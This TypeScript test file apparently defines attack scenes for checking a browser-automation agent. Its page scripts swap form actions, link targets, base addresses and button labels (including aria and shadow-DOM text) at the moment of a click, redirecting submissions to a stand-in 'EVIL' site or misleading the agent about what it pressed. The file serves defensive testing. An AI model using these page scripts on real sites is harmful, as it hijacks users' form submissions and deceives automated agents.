import type { BrowserAttack } from '../browser/browser-attack.ts'
import { COURSE, LAST_LOOK } from './guards.ts'
import { posted, rowOf, type Scene } from './scene.ts'

const OK = '<h1>Saved</h1>'
const EVIL = { '/evil': OK, '/evil/save': OK }
const END = 'wait for heading "Saved" up to 3s'

/** What a page changes in its form; `s` is the button, `f` its form. */
const CHANGES: Readonly<Record<string, string>> = {
  "the form's action": "f.setAttribute('action', '/evil')",
  "the form's action, to another site": "f.setAttribute('action', EVIL + '/evil')",
  "the button's own action": "s.setAttribute('formaction', '/evil')",
  'the form it belongs to': "s.setAttribute('form', 'other')",
  'the form around it': "document.querySelector('#other').append(s)",
  'the base of addresses': "document.head.insertAdjacentHTML('beforeend', '<base href=/evil/>')",
  'its own address, under a relative action': "history.pushState(0, '', '/evil/report')",
  'the action behind fields of that name':
    "f.insertAdjacentHTML('beforeend', '<input name=action value=save><input name=attributes>'); HTMLElement.prototype.setAttribute.call(f, 'action', '/evil')"
}

const MOMENTS = ['pointerover', 'pointerdown', 'focusin', 'pointerup', 'mouseup'] as const

const formPage = (evil: string, script: string): string => `<h1>Report</h1>
<form id=other method=post action=/evil></form>
<form id=own method=post action=save><button name=do value=it>Save</button></form>
<script>
const EVIL = ${JSON.stringify(evil)}
const s = document.querySelector('button'), f = document.querySelector('#own')
${script}
</script>`

const hearing = (moment: string, change: string, on = 'window') =>
  `${on}.addEventListener(${JSON.stringify(moment)}, () => { ${change} }, { capture: true, once: true })`

const form = (name: string, guards: Scene['guards'], script: string, more: Partial<Scene> = {}): Scene => ({
  name,
  guards,
  pages: ({ evil }, tricked) => ({ '/report': formPage(evil, tricked ? script : ''), '/save': OK, ...EVIL }),
  elsewhere: () => EVIL,
  plan: () => `on s { open "/report" click button "Save" ${END} }`,
  honest: posted('/save'),
  ...more
})

/** Each change at a moment before the click: every moment and every change at least once. */
const beforeClick = Object.entries(CHANGES).flatMap(([what, change], i) =>
  MOMENTS.filter((_, k) => (i + k) % 3 === 0 || what === "the form's action").map((moment) =>
    form(
      `swaps ${what} at ${moment}`,
      what.includes('another site') ? [LAST_LOOK, COURSE] : [LAST_LOOK],
      hearing(moment, change),
      {
        ...(moment === 'pointerdown' && what === "the form's action" && { core: true as const })
      }
    )
  )
)

const AWAY = "f.setAttribute('action', EVIL + '/evil')"

const inClick: readonly Scene[] = [
  form("swaps the form's action in the click itself", [COURSE], hearing('click', AWAY), { core: true }),
  form("swaps the form's action as it is sent", [COURSE], hearing('submit', AWAY)),
  form(
    "swaps the form's action in a listener that is added last",
    [COURSE],
    hearing('click', `window.addEventListener('submit', () => { ${AWAY} })`, 's')
  ),
  form(
    'gives the button an action of its own in the click',
    [COURSE],
    hearing('click', "s.formAction = EVIL + '/evil'")
  ),
  form(
    'moves the base of addresses in the click',
    [COURSE],
    hearing('click', "document.head.insertAdjacentHTML('beforeend', '<base href=' + EVIL + '/evil/>')")
  ),
  form(
    'hands the button to a form of another site in the click, and takes it out',
    [COURSE],
    `document.querySelector('#other').action = EVIL + '/evil'; ${hearing('click', "s.setAttribute('form', 'other')")}`
  )
]

const link = (name: string, guards: Scene['guards'], script: string): Scene => ({
  name,
  guards,
  pages: ({ evil }, tricked) => ({
    '/list': `<h1>List</h1><a href=save>More</a><script>
const EVIL = ${JSON.stringify(evil)}, s = document.querySelector('a')
${tricked ? script : ''}</script>`,
    '/save': OK,
    ...EVIL
  }),
  elsewhere: () => EVIL,
  plan: () => `on s { open "/list" click link "More" ${END} }`
})

const LEADS = "s.href = EVIL + '/evil'"
const links: readonly Scene[] = [
  ...MOMENTS.map((moment) =>
    link(`swaps where a link leads at ${moment}`, [LAST_LOOK, COURSE], hearing(moment, LEADS))
  ),
  link('swaps where a link leads in the click itself', [COURSE], hearing('click', LEADS)),
  link(
    "gives a link's page another base in the click",
    [COURSE],
    hearing('click', "document.head.insertAdjacentHTML('beforeend', '<base href=' + EVIL + '/evil/>')")
  )
]

/** What the page reports of the button that it let be pressed, by the name that it had then. */
const TELL =
  "s.addEventListener('click', (event) => { event.preventDefault(); fetch(named() === 'Next' ? '/next' : '/evil') })"

const label = (name: string, html: string, named: string, script: string): Scene => ({
  name,
  guards: [LAST_LOOK],
  pages: (_, tricked) => ({
    '/list': `<h1>List</h1><span id=a>Next</span><span id=b>Discard</span>${html}<script>
const s = document.querySelector('#s'); const named = () => ${named}
${TELL}
${tricked ? script : ''}</script>`,
    '/next': '',
    ...EVIL
  }),
  plan: () => 'on s { open "/list" click button "Next" let t = read text of heading } return t',
  honest: (_outcome, { site }) => site.hits.some(({ path }) => path === '/next')
})

const labels: readonly Scene[] = [
  label(
    'swaps the words of a button',
    '<button id=s>Next</button>',
    's.textContent',
    hearing('pointerdown', "s.textContent = 'Discard'")
  ),
  label(
    'swaps its label',
    '<button id=s aria-label=Next>x</button>',
    's.ariaLabel',
    hearing('mousedown', "s.ariaLabel = 'Discard'")
  ),
  label(
    'swaps what it is labelled by',
    '<button id=s aria-labelledby=a>x</button>',
    "document.getElementById(s.getAttribute('aria-labelledby')).textContent",
    hearing('mouseup', "s.setAttribute('aria-labelledby', 'b')")
  ),
  label(
    'swaps the words of its label',
    '<button id=s aria-labelledby=a>x</button>',
    "document.querySelector('#a').textContent",
    hearing('focusin', "document.querySelector('#a').textContent = 'Discard'")
  ),
  label(
    'swaps what its label is for',
    '<label id=l for=s>Next</label><label id=m>Discard</label><button id=s style="width: 80px; height: 30px"></button>',
    "document.querySelector('label[for=s]').textContent",
    hearing('pointerdown', "l.htmlFor = ''; m.htmlFor = 's'")
  ),
  label(
    'swaps the words in its shadow tree',
    '<button id=s><span id=host></span></button><script>host.attachShadow({ mode: "open" }).innerHTML = "<b>Next</b>"</script>',
    "document.querySelector('#host').shadowRoot.textContent",
    hearing('pointerdown', "host.shadowRoot.firstChild.textContent = 'Discard'")
  ),
  label(
    'swaps what stands in its slot',
    '<my-button id=s role=button tabindex=0><b slot=one>Next</b><b slot=two>Discard</b></my-button><script>document.querySelector("my-button").attachShadow({ mode: "open" }).innerHTML = "<slot name=one></slot>"</script>',
    "s.shadowRoot.querySelector('slot').assignedNodes()[0].textContent",
    hearing('pointerup', "s.shadowRoot.querySelector('slot').name = 'two'")
  )
]

export const ATTACKS: readonly BrowserAttack[] = [...beforeClick, ...inClick, ...links, ...labels].map(rowOf)
